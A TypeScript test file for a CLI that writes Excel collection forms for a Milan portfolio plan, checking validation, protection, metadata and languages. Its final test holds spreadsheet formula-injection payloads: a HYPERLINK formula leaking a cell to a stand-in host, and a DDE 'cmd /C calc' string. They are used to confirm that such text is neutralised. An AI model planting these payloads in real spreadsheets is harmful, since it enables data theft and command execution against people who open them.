import { createHash } from 'node:crypto';
import { cpSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { readFormMetadata } from '../../src/load/spreadsheet/form-metadata.ts';
import { readSpreadsheet } from '../../src/load/spreadsheet/spreadsheet-file.ts';
import { columnNumber, FACT_COLUMNS, FACT_INPUTS, FIRST_DATA_ROW, FORM_SHEETS, HEADER_ROW, INDICATOR_COLUMNS, INDICATOR_INPUTS, MILESTONE_COLUMNS, MILESTONE_INPUTS, type FormMetadata } from '../../src/model/form-layout.ts';
import { LABELS } from '../../src/render/labels.ts';
import { repoRoot, runInProcess } from '../helpers/run-cli.ts';
import { tempPlan } from '../helpers/temp-plan.ts';

const shippedPlan = path.join(repoRoot, 'plan');
const fixture = (name: string) => path.join(repoRoot, 'test/fixtures', name);
const AS_OF = '2026-11-22';

/** A copy of the shipped plan (the folder itself holds plan.yaml), so forms are written beside it. */
const shippedCopy = () => tempPlan(undefined, shippedPlan);
const run = (root: string, argv: string[]) => runInProcess(['collect', 'forms', '--plan', root, '--as-of', AS_OF, ...argv], { cwd: root });

async function readWorkbook(file: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook;
}

/** The metadata of a written form, read back as the import reads it. */
async function metadataOf(file: string): Promise<FormMetadata> {
  const read = readFormMetadata(await readSpreadsheet(readFileSync(file), path.basename(file)));
  if (!read || !('metadata' in read)) throw new Error(`${file}: no metadata (${JSON.stringify(read)})`);
  return read.metadata;
}

/** The values of one column of a sheet's data rows. */
function columnValues(sheet: ExcelJS.Worksheet, column: number): unknown[] {
  const values: unknown[] = [];
  for (let row = FIRST_DATA_ROW; row <= sheet.rowCount; row++) values.push(sheet.getRow(row).getCell(column).value);
  return values;
}

describe('psttm collect forms on the shipped portfolio', () => {
  // Hand-counted from plan/projects/*.yaml: lead.name of each file, and its quantitative or percentage indicators and milestones.
  const expected = [
    { lead: 'Città metropolitana di Milano, Area promozione e coordinamento dello sviluppo economico e sociale', projects: 3, indicators: 0, milestones: 0 },
    { lead: 'Comune di Milano', projects: 10, indicators: 18, milestones: 4 },
    { lead: 'Comune di Milano, Direzione Economia Urbana e Lavoro', projects: 1, indicators: 2, milestones: 1 },
    { lead: 'Fondazione Politecnico di Milano', projects: 1, indicators: 2, milestones: 0 },
  ];

  it('writes one form per lead, holding only its projects, and names the project without a lead', async () => {
    const root = shippedCopy();
    const result = await run(root, ['--json']);
    expect(result.code).toBe(0);
    const output = JSON.parse(result.stdout) as { asOf: string; due: string; files: { lead: string; path: string; projects: number; indicators: number; milestones: number }[]; withoutLead: string[] };
    expect(output.asOf).toBe(AS_OF);
    expect(output.due).toBe('2026-12-22');
    expect(output.files.map(({ path: _path, ...counts }) => counts)).toEqual(expected);
    expect(output.files.map((file) => file.path)).toEqual([
      'forms/modulo-citta-metropolitana-di-milano-area-promozione-e-2026-11-22.xlsx',
      'forms/modulo-comune-di-milano-2026-11-22.xlsx',
      'forms/modulo-comune-di-milano-direzione-economia-urbana-e-lavoro-2026-11-22.xlsx',
      'forms/modulo-fondazione-politecnico-di-milano-2026-11-22.xlsx',
    ]);
    expect(output.withoutLead).toEqual(['prolungamento-m5-monza']);
    expect(result.stderr).toContain('psttm: 1 project names no lead and gets no form: prolungamento-m5-monza; add lead to its file to include it\n');

    // The Comune di Milano's form: its 10 projects in the facts sheet, its 18 indicators, no one else's.
    const workbook = await readWorkbook(path.join(root, output.files[1]!.path));
    const milano = readdirSync(path.join(root, 'projects'))
      .filter((name) => /^lead:\n {2}kind: comune\n {2}name: Comune di Milano\n/m.test(readFileSync(path.join(root, 'projects', name), 'utf8')))
      .map((name) => name.replace(/\.yaml$/, ''));
    expect(milano).toHaveLength(10);
    const facts = workbook.getWorksheet('Dati di progetto')!;
    expect(new Set(columnValues(facts, columnNumber(FACT_COLUMNS, 'project')))).toEqual(new Set(milano));
    const indicators = workbook.getWorksheet('Indicatori')!;
    expect(indicators.rowCount).toBe(1 + 18);
    expect(columnValues(indicators, columnNumber(INDICATOR_COLUMNS, 'project')).every((id) => milano.includes(String(id)))).toBe(true);
    expect(workbook.getWorksheet('Milestone')!.rowCount).toBe(1 + 4);
    // Rows are as tall as their wrapped text: the 10 projects, one line each (none longer than the 103 characters of the column), at 15 points a line.
    const instructions = workbook.getWorksheet('Istruzioni')!;
    const projectsRow = instructions.getRows(1, instructions.rowCount)!.find((row) => row.getCell(1).value === 'Progetti')!;
    expect(String(projectsRow.getCell(2).value).split('\n')).toHaveLength(10);
    expect(projectsRow.height).toBe(150);
  });

  it('names every project without a lead, and makes no form for a lead left without projects', async () => {
    const root = shippedCopy();
    const polihub = path.join(root, 'projects/polihub.yaml');
    writeFileSync(polihub, readFileSync(polihub, 'utf8').replace(/^lead:\n( {2}.*\n)+/m, ''));
    const result = await run(root, []);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain('psttm: 2 projects name no lead and get no form: polihub, prolungamento-m5-monza; add lead to their files to include them\n');
    expect(result.stdout).not.toContain('fondazione-politecnico');
    expect(result.stdout.trim().split('\n')).toHaveLength(3);
  });

  it('writes only the forms of the leads named, in any case, and says nothing of projects without a lead', async () => {
    const root = shippedCopy();
    const result = await run(root, ['--lead', 'comune di milano', '--lead', 'Fondazione Politecnico di Milano']);
    expect(result).toEqual({ code: 0, stdout: 'forms/modulo-comune-di-milano-2026-11-22.xlsx\nforms/modulo-fondazione-politecnico-di-milano-2026-11-22.xlsx\n', stderr: '' });
    expect(readdirSync(path.join(root, 'forms')).sort()).toEqual(['modulo-comune-di-milano-2026-11-22.xlsx', 'modulo-fondazione-politecnico-di-milano-2026-11-22.xlsx']);
  });

  it('refuses an unknown lead with the closest name and the known ones, and writes nothing (exit 2)', async () => {
    const root = shippedCopy();
    const result = await run(root, ['--lead', 'Comune di Milan']);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toBe(
      'psttm: --lead Comune di Milan: no project has this lead; did you mean Comune di Milano?; the leads are "Città metropolitana di Milano, Area promozione e coordinamento dello sviluppo economico e sociale", "Comune di Milano", "Comune di Milano, Direzione Economia Urbana e Lavoro", "Fondazione Politecnico di Milano"\n',
    );
    expect(existsSync(path.join(root, 'forms'))).toBe(false);
  });

  it('overwrites no form without --force, and writes none of the run when one exists (exit 2)', async () => {
    const root = shippedCopy();
    expect((await run(root, ['--lead', 'Comune di Milano'])).code).toBe(0);
    const existing = path.join(root, 'forms/modulo-comune-di-milano-2026-11-22.xlsx');
    writeFileSync(existing, 'filled in by the lead');
    const refused = await run(root, []);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('psttm: forms/modulo-comune-di-milano-2026-11-22.xlsx already exists; pass --force to overwrite, or choose another path\n');
    expect(readdirSync(path.join(root, 'forms'))).toEqual(['modulo-comune-di-milano-2026-11-22.xlsx']);
    expect(readFileSync(existing, 'utf8')).toBe('filled in by the lead');
    expect((await run(root, ['--force'])).code).toBe(0);
    expect(readdirSync(path.join(root, 'forms'))).toHaveLength(4);
  });

  it('refuses an as-of date before the plan period, and a due date before the as-of date (exit 2)', async () => {
    const root = shippedCopy();
    const early = await runInProcess(['collect', 'forms', '--plan', root, '--as-of', '2024-12-31'], { cwd: root });
    expect(early).toEqual({ code: 2, stdout: '', stderr: 'psttm: --as-of 2024-12-31 is before the plan period (2025-2027): forms collect data of the plan period; give a later date\n' });
    const due = await run(root, ['--due', '2026-11-21']);
    expect(due).toEqual({ code: 2, stdout: '', stderr: 'psttm: --due 2026-11-21 is before the as-of date 2026-11-22; give a later date\n' });
    expect(existsSync(path.join(root, 'forms'))).toBe(false);
  });
});

describe('a form', () => {
  const boundsForm = async (argv: string[] = []) => {
    const root = tempPlan(fixture('collect-bounds'));
    const result = await runInProcess(['collect', 'forms', '--plan', root, '--as-of', AS_OF, '--lead', 'Ufficio Gamma', ...argv], { cwd: root });
    expect(result.code).toBe(0);
    const file = path.join(root, result.stdout.trim());
    return { root, file, workbook: await readWorkbook(file) };
  };

  it('validates every input cell: numbers within the indicator bounds, dates within the plan period up to the as-of date, lists, text length', async () => {
    const { workbook } = await boundsForm();
    const period = { first: new Date('2025-01-01T00:00:00Z'), last: new Date(`${AS_OF}T00:00:00Z`) };
    const indicators = workbook.getWorksheet('Indicatori')!;
    const ids = columnValues(indicators, columnNumber(INDICATOR_COLUMNS, 'indicator'));
    // The qualitative indicator is judged by milestones: no row.
    expect(ids).toEqual(['utenti', 'quota_digitale', 'saldo', 'posti_asilo']);
    const rule = (sheet: ExcelJS.Worksheet, row: number, column: number) => {
      const { type, operator, formulae } = sheet.getRow(row).getCell(column).dataValidation;
      return { type, operator, formulae };
    };
    const value = columnNumber(INDICATOR_COLUMNS, 'value');
    expect(rule(indicators, 2, value)).toEqual({ type: 'decimal', operator: 'greaterThanOrEqual', formulae: [0] });
    expect(rule(indicators, 3, value)).toEqual({ type: 'decimal', operator: 'between', formulae: [0, 1] });
    expect(rule(indicators, 4, value)).toEqual({ type: 'decimal', operator: 'between', formulae: [-50, 200] });
    expect(rule(indicators, 5, value)).toEqual({ type: 'decimal', operator: 'between', formulae: [0, 60] });
    expect(indicators.getRow(3).getCell(value).numFmt).toBe('0.0%');
    for (let row = 2; row <= 5; row++) {
      expect(rule(indicators, row, columnNumber(INDICATOR_COLUMNS, 'date'))).toEqual({ type: 'date', operator: 'between', formulae: [period.first, period.last] });
      expect(indicators.getRow(row).getCell(columnNumber(INDICATOR_COLUMNS, 'date')).numFmt).toBe('dd/mm/yyyy');
      for (const text of ['source', 'note'] as const) expect(rule(indicators, row, columnNumber(INDICATOR_COLUMNS, text))).toEqual({ type: 'textLength', operator: 'lessThanOrEqual', formulae: [1000] });
    }
    const prompt = indicators.getRow(4).getCell(value).dataValidation;
    expect([prompt.prompt, prompt.error, prompt.showErrorMessage, prompt.allowBlank]).toEqual(['Un numero da -50 a 200.', 'Un numero da -50 a 200.', true, true]);

    const milestones = workbook.getWorksheet('Milestone')!;
    expect(milestones.rowCount).toBe(3);
    for (const row of [2, 3]) {
      expect(rule(milestones, row, columnNumber(MILESTONE_COLUMNS, 'newDone'))).toEqual({ type: 'list', operator: undefined, formulae: ['"sì,no"'] });
      expect(rule(milestones, row, columnNumber(MILESTONE_COLUMNS, 'doneDate'))).toEqual({ type: 'date', operator: 'between', formulae: [period.first, period.last] });
    }
    expect(milestones.getRow(2).getCell(columnNumber(MILESTONE_COLUMNS, 'done')).value).toEqual(new Date('2025-10-15T00:00:00Z'));

    const facts = workbook.getWorksheet('Dati di progetto')!;
    expect(columnValues(facts, columnNumber(FACT_COLUMNS, 'fact'))).toEqual(['status', 'end', 'funding.0', 'funding.1']);
    expect(columnValues(facts, columnNumber(FACT_COLUMNS, 'current'))).toEqual(['in corso', new Date('2027-06-30T00:00:00Z'), 250000, 40000]);
    const fresh = columnNumber(FACT_COLUMNS, 'new');
    expect(rule(facts, 2, fresh)).toEqual({ type: 'list', operator: undefined, formulae: ['"idea,programmato,in corso,concluso,sospeso,annullato"'] });
    // An end date is a plan, not a measurement: any date from the project's start.
    expect(rule(facts, 3, fresh)).toEqual({ type: 'date', operator: 'between', formulae: [new Date('2025-03-01T00:00:00Z'), new Date('9999-12-31T00:00:00Z')] });
    for (const row of [4, 5]) expect(rule(facts, row, fresh)).toEqual({ type: 'decimal', operator: 'between', formulae: [0, 1e15] });
    expect(facts.getRow(5).getCell(columnNumber(FACT_COLUMNS, 'label')).value).toBe('Finanziamento: comunale (cofinanziamento)');
  });

  it('protects every sheet, and unlocks exactly the input cells the layout names', async () => {
    const { file, workbook } = await boundsForm();
    const tables = [
      ['Indicatori', INDICATOR_COLUMNS, INDICATOR_INPUTS, LABELS.it.form.columns.indicators],
      ['Milestone', MILESTONE_COLUMNS, MILESTONE_INPUTS, LABELS.it.form.columns.milestones],
      ['Dati di progetto', FACT_COLUMNS, FACT_INPUTS, LABELS.it.form.columns.facts],
    ] as const;
    const zip = await JSZip.loadAsync(readFileSync(file));
    const sheets = Object.keys(zip.files).filter((part) => /^xl\/worksheets\/sheet\d+\.xml$/.test(part));
    expect(sheets).toHaveLength(5);
    for (const name of sheets) expect(await zip.file(name)!.async('string'), name).toMatch(/<sheetProtection sheet="1"[^>]*\/>/);
    for (const [name, columns, inputs, headers] of tables) {
      const sheet = workbook.getWorksheet(name)!;
      expect((sheet.getRow(HEADER_ROW).values as unknown[]).slice(1)).toEqual(columns.map((key) => (headers as Record<string, string>)[key]));
      for (let row = HEADER_ROW; row <= sheet.rowCount; row++) {
        columns.forEach((key, index) => {
          const cell = sheet.getRow(row).getCell(index + 1);
          const unlocked = cell.protection?.locked === false;
          expect(unlocked, `${name}!${cell.address}`).toBe(row >= FIRST_DATA_ROW && (inputs as readonly string[]).includes(key));
          expect(cell.dataValidation !== undefined, `${name}!${cell.address}`).toBe(unlocked);
        });
      }
    }
  });

  it('records its id, the plan revision (a SHA-256 per file its rows come from), the as-of date and its sheets in a very hidden sheet', async () => {
    const { root, file, workbook } = await boundsForm();
    expect(workbook.worksheets.map((sheet) => [sheet.name, sheet.state])).toEqual([
      ['Istruzioni', 'visible'],
      ['Indicatori', 'visible'],
      ['Milestone', 'visible'],
      ['Dati di progetto', 'visible'],
      ['Metadati', 'veryHidden'],
    ]);
    const metadata = await metadataOf(file);
    const sha256 = (name: string) => createHash('sha256').update(readFileSync(path.join(root, 'plan', name))).digest('hex');
    expect(metadata).toMatchObject({
      formatVersion: 1,
      planId: 'test-plan',
      lead: 'Ufficio Gamma',
      asOf: AS_OF,
      due: '2026-12-22',
      language: 'it',
      sheets: { instructions: 'Istruzioni', indicators: 'Indicatori', milestones: 'Milestone', facts: 'Dati di progetto', metadata: 'Metadati' },
      files: [
        { path: 'plan.yaml', sha256: sha256('plan.yaml') },
        { path: 'projects/gamma-rete.yaml', sha256: sha256('projects/gamma-rete.yaml') },
      ],
      answerLabels: { yes: 'sì', no: 'no' },
    });
    expect(Object.keys(metadata.sheets)).toEqual([...FORM_SHEETS]);
    expect(metadata.statusLabels.in_progress).toBe('in corso');
    expect(metadata.formId).toMatch(/^[0-9a-f]{64}$/);
    expect(metadata.psttmVersion).toBe(JSON.parse(readFileSync(path.join(repoRoot, 'package.json'), 'utf8')).version);
  });

  it('keeps its id while the plan files are the same, and takes another when one changes', async () => {
    const idOf = async (root: string) => {
      const result = await runInProcess(['collect', 'forms', '--plan', root, '--as-of', AS_OF, '--lead', 'Ufficio Gamma', '--force'], { cwd: root });
      return (await metadataOf(path.join(root, result.stdout.trim()))).formId;
    };
    const root = tempPlan(fixture('collect-bounds'));
    const first = await idOf(root);
    expect(await idOf(tempPlan(fixture('collect-bounds')))).toBe(first);
    const project = path.join(root, 'plan/projects/gamma-rete.yaml');
    writeFileSync(project, readFileSync(project, 'utf8').replace('updated: 2026-10-01', 'updated: 2026-10-02'));
    expect(await idOf(root)).not.toBe(first);
  });

  it('tells the lead what to fill, by when and whom to ask, in the chosen language', async () => {
    const { workbook } = await boundsForm(['--due', '2027-01-15', '--reply-to', 'Ufficio Piano, piano@example.org']);
    const text = (name: string) => {
      const lines: string[] = [];
      workbook.getWorksheet(name)!.eachRow((row) => lines.push((row.values as unknown[]).slice(1).join(' | ')));
      return lines;
    };
    expect(text('Istruzioni')).toEqual(
      expect.arrayContaining([
        'Capofila | Ufficio Gamma',
        'Referente | Anna Rossi <anna.rossi@example.org>',
        'Progetti | gamma-rete: Gamma Rete',
        'Dati al | 22/11/2026',
        'Da restituire entro il | 15/01/2027',
        'Per domande e per restituire il modulo | Ufficio Piano, piano@example.org',
        '5. | Le date si scrivono gg/mm/aaaa e vanno dal 01/01/2025 al 22/11/2026; i valori rispettano i limiti indicati accanto a ogni cella; le percentuali si scrivono con il simbolo % (45%).',
      ]),
    );
    const english = await boundsForm(['--lang', 'en', '--force']);
    expect(english.file.endsWith('form-ufficio-gamma-2026-11-22.xlsx')).toBe(true);
    expect(english.workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Instructions', 'Indicators', 'Milestones', 'Project facts', 'Metadata']);
  });

  it('takes every lead whose name differs only in case, and tells apart two leads with the same file name by their form id', async () => {
    const root = tempPlan(fixture('collect-bounds'));
    cpSync(fixture('collect-same-slug'), path.join(root, 'plan'), { recursive: true });
    const result = await runInProcess(['collect', 'forms', '--plan', root, '--as-of', AS_OF, '--lead', 'ufficio gamma', '--json'], { cwd: root });
    expect(result.code).toBe(0);
    const files = (JSON.parse(result.stdout) as { files: { lead: string; path: string }[] }).files;
    expect(files.map((file) => file.lead)).toEqual(['UFFICIO GAMMA', 'Ufficio Gamma']);
    expect(files[0]!.path).toBe('forms/modulo-ufficio-gamma-2026-11-22.xlsx');
    const { formId } = await metadataOf(path.join(root, files[1]!.path));
    expect(files[1]!.path).toBe(`forms/modulo-ufficio-gamma-${formId.slice(0, 8)}-2026-11-22.xlsx`);
  });

  it('stores text from the data that a spreadsheet would run as a formula as text', async () => {
    const root = tempPlan(fixture('collect-hostile'));
    const result = await runInProcess(['collect', 'forms', '--plan', root, '--as-of', AS_OF, '--lead', '@SOMMA(1+1)'], { cwd: root });
    expect(result).toMatchObject({ code: 0, stdout: 'forms/modulo-somma-1-1-2026-11-22.xlsx\n' });
    const workbook = await readWorkbook(path.join(root, 'forms/modulo-somma-1-1-2026-11-22.xlsx'));
    const cells = [
      workbook.getWorksheet('Indicatori')!.getRow(2).getCell(columnNumber(INDICATOR_COLUMNS, 'projectTitle')),
      workbook.getWorksheet('Indicatori')!.getRow(2).getCell(columnNumber(INDICATOR_COLUMNS, 'indicatorName')),
      workbook.getWorksheet('Indicatori')!.getRow(2).getCell(columnNumber(INDICATOR_COLUMNS, 'unit')),
      workbook.getWorksheet('Milestone')!.getRow(2).getCell(columnNumber(MILESTONE_COLUMNS, 'title')),
      workbook.getWorksheet('Istruzioni')!.getRow(3).getCell(2),
    ];
    expect(cells.map((cell) => [cell.type, cell.value, cell.numFmt])).toEqual([
      [ExcelJS.ValueType.String, '=HYPERLINK("http://example.invalid/?leak="&A1,"Apri")', '@'],
      [ExcelJS.ValueType.String, "+1+cmd|' /C calc'!A0", '@'],
      [ExcelJS.ValueType.String, '-visite', '@'],
      [ExcelJS.ValueType.String, '=1+1', '@'],
      [ExcelJS.ValueType.String, '@SOMMA(1+1)', '@'],
    ]);
    // Not a formula anywhere in the package.
    const zip = await JSZip.loadAsync(readFileSync(path.join(root, 'forms/modulo-somma-1-1-2026-11-22.xlsx')));
    const sheets = Object.keys(zip.files).filter((part) => /^xl\/worksheets\/sheet\d+\.xml$/.test(part));
    expect(sheets).toHaveLength(5);
    for (const name of sheets) expect(await zip.file(name)!.async('string'), name).not.toContain('<f>');
  });
});
